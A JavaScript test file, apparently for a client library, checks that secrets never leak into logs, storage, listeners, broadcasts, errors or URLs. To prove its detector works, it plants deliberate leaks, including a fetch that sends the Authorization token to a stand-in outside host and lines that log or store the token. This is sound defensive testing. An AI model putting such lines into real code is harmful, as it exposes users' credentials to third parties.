// @ts-check
/**
 * Every method is called with secrets that occur nowhere else, against a server that quotes the
 * whole request in each answer. Then everything that can be observed, except the requests
 * themselves, is searched for the secrets.
 */

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { format, inspect } from "node:util";
import { allMethods, callOf, everyCall, SYNCHRONOUS } from "../support/calls.mjs";
import { pause } from "../support/client.mjs";
import { fetchDouble } from "../support/fetch-double.mjs";

const HOST = "neuron.example";
const OWN_KEY = "AgentAPI.Token";

/** What most secrets have in common, however they are quoted; no path of a file has it. */
const CANARY = "kanarie";

/** What a caller or the library must not show to anybody but the broker. */
class Secrets {
  /** @type {Set<string>} */
  #all = new Set();
  #count = 0;

  /**
   * A secret that is unlike every other, with characters that each way of quoting writes in its own way.
   *
   * @param {string} kind
   */
  word(kind) {
    this.#count += 1;
    return this.keep(`${kind}${this.#count}"\\<&>'å/+ ${CANARY}`);
  }

  /** One where only letters and digits are allowed. @param {string} kind */
  plain(kind) {
    this.#count += 1;
    return this.keep(`${kind}${this.#count}${CANARY}`);
  }

  token() {
    this.#count += 1;
    const part = (/** @type {object} */ value) => Buffer.from(JSON.stringify(value)).toString("base64url");
    const now = Math.floor(Date.now() / 1000);
    const signature = this.keep(`signature${this.#count}${CANARY}`);
    const payload = { sub: "alice", iat: now, exp: now + 3600, jti: `canary${this.#count}` };
    return this.keep(`${part({ alg: "HS256" })}.${part(payload)}.${signature}`);
  }

  digits() {
    this.#count += 1;
    return this.keep(String(871_000 + this.#count));
  }

  /** @param {string} secret */
  keep(secret) {
    this.#all.add(secret);
    return secret;
  }

  get size() {
    return this.#all.size;
  }

  /** Each secret, in every form in which it may be quoted. */
  *forms() {
    for (const secret of this.#all) {
      const inXml = secret
        .replaceAll("&", "&amp;")
        .replaceAll("<", "&lt;")
        .replaceAll(">", "&gt;")
        .replaceAll('"', "&quot;")
        .replaceAll("'", "&apos;");
      const forms = [
        secret,
        JSON.stringify(secret).slice(1, -1),
        inXml,
        encodeURIComponent(secret),
        Buffer.from(secret).toString("base64"),
        inspect(secret).slice(1, -1),
      ];
      for (const form of new Set(forms)) yield { secret, form };
    }
  }
}

/**
 * The secrets that were found in what was observed, each with its place.
 *
 * @param {[place: string, text: string][]} observed
 * @param {Secrets} secrets
 */
function leaks(observed, secrets) {
  const found = [];
  // Most texts occur more than once.
  const texts = new Map(observed.map(([place, text]) => [`${place} ${text}`, [place, text]]));
  // One long text is searched much faster than many.
  const all = [...texts.keys()].join("\n");
  const hasCanary = all.includes(CANARY);
  for (const { secret, form } of secrets.forms()) {
    if ((form.includes(CANARY) && !hasCanary) || !all.includes(form)) continue;
    for (const [place, text] of texts.values()) {
      if (text.includes(form)) found.push(`${place} told ${secret}: ${text.slice(0, 200)}`);
    }
  }
  return found;
}

/** Everything that others than the broker can see, as text. @type {[place: string, text: string][]} */
const observed = [];
const note = (/** @type {string} */ place, /** @type {unknown[]} */ ...values) =>
  observed.push([place, format(...values)]);

const CONSOLE = /** @type {const} */ (["debug", "info", "log", "warn", "error", "trace", "dir"]);
const real = {
  fetch: globalThis.fetch,
  random: crypto.getRandomValues,
  WebSocket: globalThis.WebSocket,
  BroadcastChannel: globalThis.BroadcastChannel,
  reportError: globalThis.reportError,
  console: Object.fromEntries(CONSOLE.map((name) => [name, console[name]])),
};

/** @typedef {(url: string, options: import("../support/fetch-double.mjs").FetchOptions) => void} Leak */

/** How the server answers. @type {number | "network" | "session"} */
let mode;
/** What a test plants. @type {Leak} */
let plant = () => {};
let secrets = new Secrets();
/** @type {import("neuron-agent-api").AgentAPI} */
let agent;
/** @type {Map<string, string>} */
const storage = new Map();

class Storage {
  /** @param {string} key */
  getItem(key) {
    return storage.get(key) ?? null;
  }
  /**
   * @param {string} key
   * @param {string} value
   */
  setItem(key, value) {
    storage.set(key, value);
    if (key !== OWN_KEY) note("storage", key, value);
  }
  /** @param {string} key */
  removeItem(key) {
    storage.delete(key);
  }
}

class Socket extends EventTarget {
  /**
   * @param {string} url
   * @param {string} protocol
   */
  constructor(url, protocol) {
    super();
    note("URL", url, protocol);
    queueMicrotask(() => this.dispatchEvent(new Event("open")));
  }
  send() {}
  close() {
    queueMicrotask(() => this.dispatchEvent(new Event("close")));
  }
}

class Channel {
  /** @param {unknown} message */
  postMessage(message) {
    note("channel", message);
  }
  close() {}
}

/**
 * How a careless server might quote a request. Long quotes are cut, so each part comes first in one.
 *
 * @type {((...request: Parameters<Leak>) => string)[]}
 */
const QUOTES = [
  (url, { method, headers, body }) =>
    `${method} ${url} ${Object.entries(headers)
      .map((pair) => pair.join(": "))
      .join("\n")}\n${body}`,
  (_, { body }) => String(body),
  (_, { headers }) => JSON.stringify(headers),
  (_, { body }) => `bad request: ${String(body).slice(20)}`,
];
let quotes = 0;
function quoted(/** @type {Parameters<Leak>} */ ...request) {
  quotes += 1;
  return QUOTES[quotes % QUOTES.length](...request);
}

/** Keeps the secrets that the library makes itself, as they go over the wire. */
function keepWhatIsMade(/** @type {Parameters<Leak>[1]} */ { headers, body }) {
  const authorization = headers.Authorization?.split(" ")[1];
  if (authorization) secrets.keep(authorization);
  for (const name of ["nonce", "signature", "keySignature", "requestSignature", "tabId"]) {
    const made = new RegExp(`\\b${name}"?[:=]"([^"]+)"`).exec(body ?? "");
    if (made) secrets.keep(made[1]);
  }
}

const fetchAndQuote = fetchDouble(async (url, options) => {
  note("URL", url);
  keepWhatIsMade(options);
  plant(url, options);
  if (mode === "network") throw new TypeError("fetch failed");
  const echo = quoted(url, options);
  if (mode === "session") {
    const token = { jwt: secrets.token(), expires: 0, userName: "alice" };
    const AccountCreated = { ...token, created: 0, enabled: true, canRelay: true };
    return answer(200, JSON.stringify({ ...AccountCreated, AccountCreated, seconds: 3600, echo }));
  }
  return answer(mode, echo);
});

const answer = (/** @type {number} */ status, /** @type {string} */ body) => ({
  status,
  statusText: body,
  headers: {
    get: (/** @type {string} */ name) =>
      name === "X-AlternativeName1" ? body : name === "Retry-After" ? "0" : null,
  },
  text: async () => body,
});

before(async () => {
  globalThis.fetch = fetchAndQuote;
  globalThis.reportError = (error) => note("reportError", inspect(error, { depth: 9 }));
  // A page that has nothing but what the library may touch.
  const known = { visibilityState: "visible", addEventListener() {}, removeEventListener() {} };
  const document = new Proxy(known, {
    get: (page, name) => (name in page ? Reflect.get(page, name) : note("DOM", `document.${String(name)}`)),
    set(_, name, value) {
      note("DOM", `document.${String(name)}`, value);
      return true;
    },
  });
  Object.assign(globalThis, {
    WebSocket: Socket,
    BroadcastChannel: Channel,
    document,
    location: { protocol: "https:", host: HOST },
    sessionStorage: new Storage(),
    localStorage: new Storage(),
  });
  for (const name of CONSOLE) {
    console[name] = (/** @type {unknown[]} */ ...args) =>
      note(`console.${name}`, ...args.map((arg) => inspect(arg, { depth: 9, showHidden: true })));
  }
  let nonces = 0;
  crypto.getRandomValues = (array) => {
    const bytes = /** @type {Uint8Array<ArrayBuffer>} */ (/** @type {unknown} */ (array));
    // No pauses; and a nonce that is known, and never the same.
    bytes.fill(0);
    if (bytes.length <= 4) return array;
    nonces += 1;
    Buffer.from(bytes.buffer).write(`nonce${nonces}canary`);
    secrets.keep(Buffer.from(bytes).toString("base64"));
    return array;
  };
  ({ AgentAPI: agent } = await import(`${import.meta.resolve("neuron-agent-api")}?canary`));
  agent.IO.SetLogLevel("debug");
  for (const [group, name] of [
    ["IO", "OnRequest"],
    ["IO", "OnResponse"],
    ["IO", "OnRetry"],
    ["Account", "OnSessionChange"],
  ]) {
    callOf(agent, `${group}.${name}`, [
      (/** @type {unknown} */ event) => note(name, inspect(event, { depth: 9, showHidden: true })),
    ]);
  }
});

function restore() {
  const { console: methods, random, ...globals } = real;
  Object.assign(console, methods);
  Object.assign(globalThis, globals);
  crypto.getRandomValues = random;
  for (const name of ["document", "location", "sessionStorage", "localStorage", "TabID"]) {
    Reflect.deleteProperty(globalThis, name);
  }
}
after(async () => {
  mode = 403;
  // Its sockets end with the session.
  await agent.Account.Logout();
  restore();
});

function begin(passed = 0) {
  const expires = Math.floor(Date.now() / 1000) + 3600 - passed;
  storage.clear();
  for (const [key, value] of Object.entries({
    "AgentAPI.Token": secrets.token(),
    "AgentAPI.UserName": "alice",
    "AgentAPI.Seconds": "3600",
    "AgentAPI.RefreshTimerExpires": String(expires),
    "AgentAPI.Broker": `https://${HOST}`,
  })) {
    storage.set(key, value);
  }
}

function noteError(/** @type {Error} */ error) {
  const { message, stack, cause } = error;
  note("error", message);
  note("error", stack);
  note("error", String(error), JSON.stringify(error));
  note("error", inspect(error, { depth: 9, showHidden: true, getters: true }));
  note("error", inspect(cause, { depth: 9, showHidden: true }));
}

/**
 * Calls a method with new secrets wherever there can be one.
 *
 * @param {string} method
 * @param {string} encoding
 */
async function callWithSecrets(method, encoding) {
  const token = secrets.token();
  const words = {
    password: secrets.word("password"),
    token,
    code: secrets.digits(),
    apiKey: secrets.word("apiKey"),
    secret: secrets.word("secret"),
    keyPassword: secrets.word("keyPassword"),
    pin: secrets.plain("pin"),
  };
  Object.assign(globalThis, { TabID: secrets.plain("tab") });
  begin(method === "Account.RestartActiveSession" ? 2000 : 0);
  const values = everyCall(words).find(([name]) => name === method)?.[2] ?? [];
  const options = method.startsWith("Account.DomainInfo") ? undefined : { encoding };
  try {
    await callOf(agent, method, options ? [...values, options] : values);
    return "fulfilled";
  } catch (error) {
    const failure = /** @type {import("neuron-agent-api").AgentApiError} */ (error);
    noteError(failure);
    return failure.code;
  }
}

/** @type {(typeof mode)[]} */
const MODES = [400, 401, 403, 404, 429, 500, 503, 200, 204, 307, "network", "session"];

test("no secret of any method is shown, whatever the broker quotes", {
  timeout: 300_000,
}, async (context) => {
  const methods = everyCall().map(([method]) => method);
  assert.deepEqual([...methods, ...SYNCHRONOUS].sort(), allMethods().sort());
  const outcomes = new Map();
  const places = new Set();
  const total = { secrets: 0, observations: 0 };
  for (mode of MODES) {
    // Each method meets each way to quote: their number is no multiple of those.
    for (const encoding of ["json", "xml", "json", "xml", "json", "xml", "json", "xml"]) {
      for (const method of methods) {
        const outcome = await callWithSecrets(method, encoding);
        outcomes.set(outcome, (outcomes.get(outcome) ?? 0) + 1);
      }
      await pause(5);
      assert.deepEqual(leaks(observed, secrets).slice(0, 10), [], `${mode} in ${encoding}`);
      for (const [place] of observed) places.add(place);
      total.secrets += secrets.size;
      total.observations += observed.length;
      observed.length = 0;
      secrets = new Secrets();
    }
  }
  // What a listener, a log line and a broadcast show was really looked at.
  for (const place of [
    "OnRequest",
    "OnResponse",
    "OnRetry",
    "OnSessionChange",
    "URL",
    "error",
    "channel",
    "storage",
    "console.debug",
    "console.info",
    "console.warn",
  ]) {
    assert.ok(places.has(place), `${place} was never used: nothing is tested there`);
  }
  assert.ok(!places.has("DOM"), "the page was touched");
  assert.ok(!outcomes.has("internal") && outcomes.size > 8, [...outcomes.keys()].join());
  assert.ok(total.secrets > 5000 && total.observations > 5000, JSON.stringify(total));
  context.diagnostic(JSON.stringify({ ...total, outcomes: Object.fromEntries(outcomes) }));
});

/** One leak in each place, of what goes over the wire. @type {Record<string, Leak>} */
const PLANTED = {
  "console.debug": (_, { headers }) => console.debug("sending", headers),
  "console.log": (_, { headers }) => console.log(`${headers.Authorization}!`),
  OnRequest: (_, { headers }) => agent.IO.OnRequest(() => note("OnRequest", headers.Authorization)),
  channel: (_, { headers }) =>
    new BroadcastChannel("x").postMessage({ token: headers.Authorization.slice(7) }),
  storage: (_, { headers }) => sessionStorage.setItem("last", headers.Authorization),
  URL: (_, { headers }) =>
    void fetch(`https://elsewhere.example/?${encodeURIComponent(headers.Authorization)}`, { headers: {} }),
  error: (_, { body }) => {
    throw new Error(`can't send ${body}`);
  },
  reportError: (_, { headers }) => reportError(new Error(headers.Authorization)),
};

for (const [place, leak] of Object.entries(PLANTED)) {
  test(`a leak that is planted is found (${place})`, async () => {
    observed.length = 0;
    secrets = new Secrets();
    mode = 403;
    let isPlanted = false;
    plant = (url, options) => {
      if (isPlanted || !options.headers.Authorization) return;
      isPlanted = true;
      leak(url, options);
    };
    await callWithSecrets("IO.Request", "json");
    await callWithSecrets("Account.Info", "json");
    plant = () => {};
    await pause(5);
    const found = leaks(observed, secrets);
    assert.ok(
      found.some((line) => line.startsWith(`${place} told `)),
      `nothing was found in ${place}`,
    );
  });
}

test("a leak in an event of a listener is found", async (context) => {
  observed.length = 0;
  secrets = new Secrets();
  mode = 403;
  const { freeze } = Object;
  context.mock.method(Object, "freeze", (/** @type {any} */ value) => {
    if (value?.operation) value.authorization = storage.get(OWN_KEY);
    return freeze(value);
  });
  await callWithSecrets("Account.Info", "json");
  await pause(5);
  const found = leaks(observed, secrets);
  for (const place of ["OnRequest", "OnResponse", "console.debug"]) {
    assert.ok(
      found.some((line) => line.startsWith(`${place} told `)),
      `nothing was found in ${place}`,
    );
  }
});
